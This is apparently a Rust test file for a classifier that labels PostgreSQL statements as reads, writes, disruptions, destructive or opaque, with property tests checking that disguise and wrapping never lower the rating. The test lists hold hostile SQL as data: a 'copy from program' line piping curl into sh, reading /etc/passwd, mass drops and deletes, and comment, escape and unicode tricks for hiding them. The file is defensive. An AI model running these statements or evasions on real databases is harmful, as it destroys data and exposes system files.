//! What each kind of statement is, and the ways to hide one.

use proptest::prelude::*;

use super::*;
use Effect::{Destroy, Disrupt, Read, Write};

fn worst(text: &str) -> Statement {
    read(text.as_bytes()).into_iter().reduce(Statement::worse).unwrap_or_else(Statement::barrier)
}

fn effect(text: &str) -> Effect {
    worst(text).effect
}

fn is_opaque(text: &str) -> bool {
    worst(text).flags.has(Flag::Opaque)
}

const READS: &[&str] = &[
    "select 1",
    "SELECT * FROM orders WHERE id = 1 ORDER BY created_at DESC NULLS LAST LIMIT 10",
    "select count(*), max(o.total) as m from public.orders o left join users u on u.id = o.user_id",
    "select a::text, (b + 1) * -c from t where not (a is null) and b in (1, 2) and c between 1 and 2",
    "select * from t where id in (select id from u where x = 'drop table t')",
    "select now(), current_date, date '2024-01-01', 'it''s'",
    "show all",
    "show transaction_isolation",
    "table orders",
    "values (1), (2)",
    "with a as (select 1) select * from a",
    "select 1 union all select 2",
    "explain delete from orders",
    "explain (analyze false, verbose) delete from orders",
    "explain (analyze, buffers) select * from orders",
    "begin; select 1; commit",
    "declare c cursor for select * from t",
    "fetch 10 from c",
    "set statement_timeout = 0",
    "set search_path to app, public",
    "reset all",
    "copy orders to stdout",
    "copy (select * from orders) to stdout with csv header",
    "listen jobs",
    "prepare p as select * from t where id = $1; execute p(1)",
    "select \"delete\" from \"drop\"",
    "select case when a then b else c end from t",
    "select array[1,2], row(1,2), t.* from t",
    "select my_function(1)",
    "select * from generate_series(1, 10)",
    "select $$drop table x$$",
    "-- drop table x\nselect 1",
    "/* drop table x; /* nested */ */ select 1",
    ";;",
    "",
];

const WRITES: &[&str] = &[
    "insert into orders values (1)",
    "insert into a select * from b on conflict (id) do update set x = 1",
    "update orders set a = 1 where id = 5",
    "delete from orders where id = 5",
    "delete from orders where id in (select id from stale)",
    "delete from orders using users u where u.id = orders.user_id",
    "delete from orders where current of c",
    "update t set a = 1 where a = b",
    "update t set a = 1 where a is null or b is not null",
    "delete from orders where id = any (array[1, 2])",
    "delete from orders where lower(name) = 'x'",
    "delete from orders where (orders).id = 5",
    "delete from orders where created_at < now() - interval '90 days'",
    "delete from orders where deleted",
    "delete from orders where ctid = '(0,1)'",
    "delete from orders where \"Id\" = 5",
    "delete from orders where exists (select from users u where u.id = user_id)",
    "update t set a = 1 where 1 = 2",
    "update t set a = 1 where false",
    "merge into t using s on t.id = s.id when matched then delete",
    "merge into t using s on true when not matched then insert values (1)",
    "select * into copy from orders",
    "select * from t for update",
    "create table t (id int)",
    "create table t as select 1",
    "create index concurrently i on t (a)",
    "create or replace view v as select 1",
    "create function f() returns int language sql as $$ select 1; $$",
    "create function f() returns int begin atomic select 1; select 2; end",
    "create function f() returns void language plpgsql as $$ begin delete from t; end $$",
    "create schema s create table t (a int) create view v as select 1",
    "alter table t add column a int",
    "alter table t drop constraint c",
    "alter table t alter column a drop not null",
    "alter table t alter column a type bigint using a::bigint",
    "alter table t alter column a type int using nullif(a, '')::int",
    "alter table t disable trigger all",
    "alter type e add value 'x'",
    "grant select on t to u",
    "revoke all on t from u",
    "alter role r password 'x'",
    "alter system set work_mem = '64MB'",
    "alter system set archive_command = 'test ! -f /a/%f && cp %p /a/%f'",
    "alter system set archive_mode = on",
    "alter system reset work_mem",
    "comment on table t is 'drop table'",
    "vacuum t",
    "analyze",
    "refresh materialized view v",
    "reindex table concurrently t",
    "copy orders from stdin",
    "copy orders from '/tmp/x'",
    "copy orders to '/tmp/x'",
    "notify jobs, 'x'",
    "select nextval('s')",
    "select pg_catalog.setval('s', 1, true)",
    "select pg_read_file('/etc/passwd')",
    "select pg_switch_wal()",
    "select lo_export(1, '/tmp/x')",
    "select query_to_xml('select count(*) from t', true, false, '')",
    "select table_name, query_to_xml(format('select count(*) from %I', table_name), false, true, '') from information_schema.tables",
    "drop table pg_temp.scratch",
    "create temp table x as select 1; drop table x",
    "create temporary table if not exists X (a int); insert into x values (1); truncate x; drop table if exists x",
    "create local temp table x (a int); create temp table y (a int); drop table x, y",
    "truncate pg_temp.scratch",
    "delete from pg_temp.scratch",
    "begin; drop table orders; rollback",
    "begin; delete from orders; select count(*) from orders; abort",
    "start transaction; drop schema s cascade; rollback work",
    "lock table t in access share mode",
    "set session_replication_role = replica",
    "create rule r as on insert to t do instead nothing",
];

const DISRUPTS: &[&str] = &[
    "drop index i",
    "drop index concurrently if exists a.i, j",
    "create index on t (a)",
    "create unique index i on t (a)",
    "reindex table t",
    "reindex database d",
    "vacuum full",
    "vacuum (full, analyze) t",
    "cluster t using i",
    "lock table t",
    "lock t in exclusive mode",
    "select pg_terminate_backend(pid) from pg_stat_activity",
    "select query_to_xml('select pg_terminate_backend(pid) from pg_stat_activity', true, true, '')",
    "select pg_promote()",
    "select pg_catalog.\"pg_terminate_backend\"(1)",
    "select U&\"pg_terminate_backen\\0064\"(1)",
    "alter table t detach partition p",
    "alter table t set tablespace s",
];

const DESTROYS: &[&str] = &[
    "create temp table x as select 1; drop table x; drop table x",
    "create temp table x as select 1; drop table x, y",
    "create temp table x as select 1; drop table public.x",
    "create temp table x as select 1; drop table \"X\"",
    "create temp table x as select 1; drop table x cascade, y",
    "create temp table x (a int) on commit drop; commit; drop table x",
    "create temp table x (a int); set search_path = public, pg_temp; drop table x",
    "create temp table x (a int); alter table x rename to y; drop table x",
    "create temp table x (a int); discard temp; drop table x",
    "create table x (a int); drop table x",
    "alter system set archive_mode = off",
    "alter system set archive_mode to 'off'",
    "alter system set archive_command = ''",
    "alter system reset archive_command",
    "alter system reset all",
    "drop table orders",
    "DROP/**/TABLE/* x */IF EXISTS public.\"orders\" CASCADE",
    "drop materialized view v",
    "drop view v",
    "drop sequence s",
    "drop function f(int)",
    "drop type t",
    "drop domain d",
    "drop trigger t on o",
    "drop policy p on o",
    "drop rule r on o",
    "drop extension hstore cascade",
    "drop role r",
    "drop user r",
    "drop schema s",
    "drop publication p",
    "drop subscription s",
    "drop server s cascade",
    "drop user mapping for u server s",
    "drop owned by r",
    "drop database d",
    "drop database d with (force)",
    "drop tablespace t",
    "drop aggregate a(int)",
    "drop text search configuration c",
    "drop cast (int as text)",
    "drop statistics s",
    "truncate orders",
    "truncate table only orders, items restart identity cascade",
    "delete from orders",
    "delete from only orders",
    "delete from orders where true",
    "delete from orders where 1=1",
    "delete from orders where not false",
    "delete from orders where 'a'='a'",
    "delete from orders where 1<>2",
    "delete from orders where id=id",
    "delete from orders o where o.id = o.id",
    "delete from orders where (((true)))",
    "delete from orders where true and 1=1",
    "delete from orders where id = 5 or true",
    "delete from orders where 't'::boolean",
    "delete from orders where 'true'",
    "delete from orders where cast('yes' as bool)",
    "delete from orders where 1::bool",
    "delete from orders where exists (select 1)",
    "delete from orders where 1 in (1, 2)",
    "delete from orders where 1 between 0 and 2",
    "delete from orders where 2+2=4",
    "delete from orders where name like '%'",
    "delete from orders where null is null",
    "delete from orders where coalesce(null, true)",
    "delete from orders where (select true)",
    "delete from orders where id is null or (id is not null)",
    "delete from orders where id notnull or id is null",
    "delete from orders where now() is not null",
    "delete from orders where random() >= 0",
    "delete from orders where (select count(*)) > 0",
    "delete from orders where case when true then true end",
    "delete from orders where id is not distinct from id",
    "delete from orders where '1' = 1",
    "delete from orders returning *",
    "delete from orders using users",
    "update orders set a = null",
    "update only orders set (a, b) = (1, 2)",
    "update orders set a = 1 from users",
    "update orders set a = 1 where true",
    "merge into t using (select 1) s on true when matched then delete",
    "merge into t using (select 1) s on 1=1 when matched then update set a = 1",
    "with d as (delete from orders returning *) select count(*) from d",
    "with d as (select 1) delete from orders",
    "with a as (with b as (delete from orders returning 1) select * from b) select * from a",
    "explain analyze delete from orders",
    "explain (analyze) delete from orders",
    "explain (analyze on, buffers) update orders set a = 1",
    "explain analyse verbose delete from orders",
    "prepare p as delete from orders",
    "copy (delete from orders returning *) to stdout",
    "create rule r as on insert to t do also delete from orders",
    "create rule r as on insert to t do also (insert into a values (1); delete from orders)",
    "alter table orders drop column a",
    "alter table orders drop a",
    "alter table orders drop \"a\"",
    "alter table only orders add column b int, drop column if exists a cascade",
    "alter table orders alter column a type int using 0",
    "alter foreign table f drop column a",
    "alter type t drop attribute a",
    "select pg_drop_replication_slot('s')",
    "select query_to_xml($$select pg_drop_replication_slot('s')$$, true, true, '')",
    "select pg_file_unlink('base/1')",
    "select lo_unlink(oid) from pg_largeobject_metadata",
    "select drop_chunks('t', interval '1 day')",
    "select 1; drop table orders",
    "drop table orders; select 1",
    "begin; drop table orders; commit",
    "begin; drop table orders",
    "begin; drop table orders; commit; rollback",
    "begin; drop table orders; end; begin; rollback",
    "drop table orders; rollback",
    "rollback; drop table orders",
    "begin; drop table orders; rollback and chain; commit",
    "begin; savepoint a; drop table orders; rollback to a; commit",
    "begin; drop database d; rollback",
    "begin; drop table orders; prepare transaction 'x'; rollback",
    "create function f() returns void language sql as $$ delete from orders $$; select f()",
    "create function f() returns void language sql as 'delete from orders'; select * from a.F()",
    "create procedure p() begin atomic delete from orders; end; call p()",
    "do $$ begin delete from orders; end $$",
    "do $$ begin execute 'x'; drop table orders; end $$",
    "do language plpgsql 'begin truncate orders; end'",
    "select 'a\\' ; drop table orders; --'",
    "select E'a'\n'b\\' ; select 1; --'; drop table orders",
    "-- x\rdrop table orders",
    "drop table U&\"ord\\0065rs\"",
    "select 1 \\; drop table orders",
    "( drop table orders",
    "select 1) ; drop table orders; --(",
    "drop table orders -- ' ",
    "drop\u{a0}table orders; drop table orders",
    "create view v as select 1; drop view v",
];

const OPAQUE: &[&str] = &[
    "do $$ begin null; end $$",
    "call p()",
    "execute p",
    "copy t from program 'curl x | sh'",
    "copy t to program 'sh'",
    "load 'x'",
    "commit prepared 'x'",
    "select * from dblink('host=x', 'select 1') as t(a int)",
    "select dblink_exec('drop table x')",
    "select cron.schedule('* * * * *', 'delete from x')",
    "selec 1",
    "select from where from",
    "select 'abc",
    "select $$abc",
    "select /* abc",
    "drop table orders; do $$ begin null; end $$; rollback",
    "explain analyze execute p",
    "create table t as execute p",
];

#[test]
fn every_listed_statement_has_its_effect() {
    let mut wrong = Vec::new();
    for (list, want) in [(READS, Read), (WRITES, Write), (DISRUPTS, Disrupt), (DESTROYS, Destroy)] {
        for text in list {
            let worst = worst(text);
            let clear = want == Destroy || !worst.flags.has(Flag::Opaque);
            let said = want == Read || !worst.summary.is_empty();
            if worst.effect != want || !clear || !said {
                wrong.push(format!("{text}: {worst:?}"));
            }
        }
    }
    let clear = OPAQUE.iter().filter(|text| !is_opaque(text));
    wrong.extend(clear.map(|text| format!("{text}: {:?}", worst(text))));
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn what_nobody_can_bring_back_is_irreversible() {
    for text in ["drop database d", "drop schema s cascade", "drop owned by r", "drop tablespace t"]
    {
        assert!(worst(text).flags.has(Flag::Irreversible), "{text}");
    }
    for text in ["drop table t", "drop schema s", "truncate t", "delete from t"] {
        assert!(!worst(text).flags.has(Flag::Irreversible), "{text}");
    }
    assert!(worst("grant select on t to u").flags.has(Flag::Permission));
}

#[test]
fn objects_are_named_as_a_person_would_read_them() {
    let objects = [
        ("drop table a.b, \"C d\" cascade", "table a.b, C d"),
        ("drop table if exists U&\"ord\\0065rs\"", "table orders"),
        ("delete from public.orders *", "table public.orders"),
        ("with d as (delete from o returning 1) select 1", "table o"),
        ("truncate table a, only b", "table a, b"),
        ("alter table t drop column if exists \"c\"", "column c of t"),
        ("drop function f(int, text), g", "function f, g"),
        ("drop database if exists \"pr\"\"od\"", "database pr\"od"),
        ("update t as x set a = 1", "table t"),
    ];
    for (text, object) in objects {
        assert_eq!(worst(text).object.as_deref(), Some(object), "{text}");
    }
}

#[test]
fn hostile_nesting_is_opaque_and_quick() {
    let started = std::time::Instant::now();
    for unit in
        ["(", "not ", "1+", "- ", "[", "explain ", "f(", "case when ", "array[", "a.", "1::"]
    {
        let text = format!("select {}1", unit.repeat(100_000));
        assert!(is_opaque(&text), "{unit}");
    }
    let text = format!(
        "create function f() returns int language sql as $$ select {}1 $$",
        "(".repeat(100_000)
    );
    assert_eq!(effect(&text), Write);
    assert_eq!(effect(&format!("{text}; select f()")), Write);
    assert!(is_opaque(&format!("{text}; select f()")));
    let many = "select 1;".repeat(20_000);
    assert_eq!(effect(&many), Read);
    assert_eq!(effect(&format!("{}drop table x", "/*".repeat(100_000))), Write);
    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
}

#[test]
fn a_long_insert_is_read_in_full() {
    let text = format!("insert into t values {}(1)", "(1,'a',-2.5,null),".repeat(5_000));
    assert_eq!(effect(&text), Write);
    assert!(!is_opaque(&text));
}

#[test]
fn a_rolled_back_destroy_says_so() {
    let statements = read(b"begin; drop table orders; rollback");
    let dropped = statements.iter().find(|found| found.operation == "DROP TABLE").unwrap();
    assert!(dropped.summary.ends_with("The same text rolls it back."));
}

/// A statement with comments, blanks and cases changed.
fn disguised(text: &str, seed: &[u8]) -> String {
    let mut out = String::new();
    let mut seed = seed.iter().cycle();
    let mut quoted: Option<char> = None;
    for letter in text.chars() {
        match (quoted, letter) {
            (Some(quote), _) if quote == letter => quoted = None,
            (None, '\'' | '"') => quoted = Some(letter),
            _ => {}
        }
        let step = seed.next().copied().unwrap_or(0);
        match letter {
            ' ' if quoted.is_none() => out.push_str(match step % 5 {
                0 => " ",
                1 => "\n\t",
                2 => "/* ' \" ; */",
                3 => " -- ' ; $$\n",
                _ => "/*/**/*/",
            }),
            _ if quoted.is_none() && step % 2 == 0 => out.extend(letter.to_uppercase()),
            _ => out.push(letter),
        }
    }
    out
}

#[test]
fn what_scripts_are_full_of_is_plain_and_no_more() {
    let plain = |text: &str| {
        let tokens: Vec<Token> = Lexer::new(text.as_bytes(), 0, Mode::default()).collect();
        let own = BTreeMap::from([("mine".to_owned(), Statement::barrier())]);
        simple::read(text.as_bytes(), &tokens, &own).map(|found| found.effect)
    };
    for text in [
        "insert into t values (1, 'it''s', default), (-2, null, now())",
        "insert into public.t (a, \"b\") values (lower('x') || 'y', '2024-01-01'::date)",
        "update t set a = a + 1, b = default where id = 7 and (c or d is null)",
        "delete from only_t where a is null and t.b >= '2024-01-01'",
        "grant select, insert on table public.t to ana, \"Bob\"",
        "comment on column public.t.a is 'what it holds'",
    ] {
        assert_eq!(plain(text), Some(Write), "{text}");
    }
    for text in [
        "insert into t select * from u",
        "insert into t values (setval('s', 1))",
        "insert into t values (Mine(1))",
        "insert into t values (1) on conflict do nothing",
        "insert into t values (1) returning f(a)",
        "update t set a = 1",
        "update t set a = 1 where true",
        "update t set a = 1 where id = id",
        "update t set a = 1 where id = 1 or true",
        "update t set a = 1 where 1 = 1",
        "update t set a = 1 where now() > '2024-01-01'",
        "update t set a = 1 from u where t.id = 1",
        "delete from t",
        "delete from t where a = 1 or b = 2",
        "delete from t where not a = 1",
        "delete from t using u where a = 1",
        "delete from t where a = 1 returning setval('s', 1)",
        "with x as (delete from t) insert into t values (1)",
        "grant admin to ana",
        "grant all privileges on t to ana with grant option",
        "comment on function f() is 'x'",
        "begin isolation level serializable",
        "commit and chain",
        "commit prepared 'x'",
    ] {
        assert_eq!(plain(text), None, "{text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 1_000, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn any_bytes_are_read_without_a_panic(bytes in proptest::collection::vec(any::<u8>(), 0..200)) {
        let _ = read(&bytes);
    }

    #[test]
    fn any_sql_like_text_is_read_without_a_panic(
        words in proptest::collection::vec(
            proptest::sample::select(vec![
                "select", "drop", "table", "delete", "from", "where", "(", ")", ";", "'", "\"",
                "$$", "--", "/*", "*/", "\n", "begin", "atomic", "end", "create", "function", "as",
                "E'", "U&\"", "\\", ",", "1", "x", "not", "with", "explain", "analyze", "merge",
                "using", "on", "true", "=", "case", "when", "copy", "program", "do", "é", "::",
            ]),
            0..60,
        ),
    ) {
        let _ = read(words.join(" ").as_bytes());
        let _ = read(words.concat().as_bytes());
    }

    /// What the small grammar of plain statements accepts, the full one reads
    /// just so.
    #[test]
    fn a_plain_statement_is_the_same_to_the_full_grammar(
        head in proptest::sample::select(vec![
            "select", "select", "insert into t values (", "insert into b.c (a, \"q\") values (1), (",
            "update t set a =", "update b.c set a = 1, b =", "update t set a = 1 where",
            "update \"q\" set a = default where a = 1 and", "delete from t where",
            "delete from b.c where a > 'x' and", "grant select, insert on", "grant all on table b.c to",
            "comment on", "comment on column b.c is", "begin", "commit",
        ]),
        words in proptest::collection::vec(
            proptest::sample::select(vec![
                "a", "b.c", "t", "*", ",", "from", "where", "and", "or", "not", "(", ")", "1", "'x'",
                "=", "<", "+", "is", "null", "true", "in", "like", "between", "order", "by", "desc",
                "limit", "offset", "group", "having", "as", "join", "left", "on", "using", "count(*)",
                "f(a)", "::", "int", "select", "distinct", "nulls", "first", "\"q\"", "into", "for",
                "update", "union", "values", "case", "-", "setval('a', 1)", "with", "all", "cross",
                "default", "set", "returning", "where a = 1", "), (", "on", "to", "table", "schema",
            ]),
            0..9,
        ),
        tail in proptest::sample::select(vec!["", ")", "and a <= 1", "where a = 'x'"]),
    ) {
        let text = format!("{head} {} {tail}", words.join(" "));
        let tokens: Vec<Token> = Lexer::new(text.as_bytes(), 0, Mode::default()).collect();
        if let Some(plain) = simple::read(text.as_bytes(), &tokens, &BTreeMap::new()) {
            let source = source::Source::new(text.as_bytes(), &tokens, false).unwrap();
            let found = Reader::default().parsed(&source);
            let found = found.map(|found| match found.role {
                Role::Plain if found.effect == Read => Statement::new(Read, "SELECT"),
                _ => found,
            });
            prop_assert_eq!(found, Some(plain), "{}", text);
        }
    }

    #[test]
    fn disguise_never_lowers_an_effect(
        at in 0..DESTROYS.len(),
        seed in proptest::collection::vec(any::<u8>(), 1..50),
    ) {
        let text = DESTROYS[at];
        let plain = !text.contains("--") && !text.contains("/*") && !text.contains('\\')
            && !text.contains('$') && !text.contains('\u{a0}') && !text.contains("'language");
        if plain {
            let disguised = disguised(text, &seed);
            prop_assert!(effect(&disguised) >= effect(text), "{}", disguised);
        }
    }

    #[test]
    fn wrapping_never_lowers_an_effect(at in 0..7_usize, wrap in 0..7_usize) {
        let text = [
            "delete from orders", "update orders set a = 1", "delete from orders where 1=1",
            "merge into t using (select 1) s on true when matched then delete",
            "delete from only orders returning *", "update orders set a = b where id = id",
            "with x as (select 1) delete from orders",
        ][at];
        let wrapped = match wrap {
            0 => format!("explain analyze {text}"),
            1 => format!("explain (verbose, analyze true) {text}"),
            2 => format!("prepare p as {text}"),
            3 => format!("begin; {text}; commit"),
            4 => format!("select 1; {text}; select 2"),
            5 if !text.contains("merge") => format!("with w as ({text}) select * from w"),
            _ => format!("create function f() returns void language sql as $a$ {text} $a$; select f()"),
        };
        prop_assert_eq!(effect(&wrapped), Destroy, "{}", wrapped);
    }
}
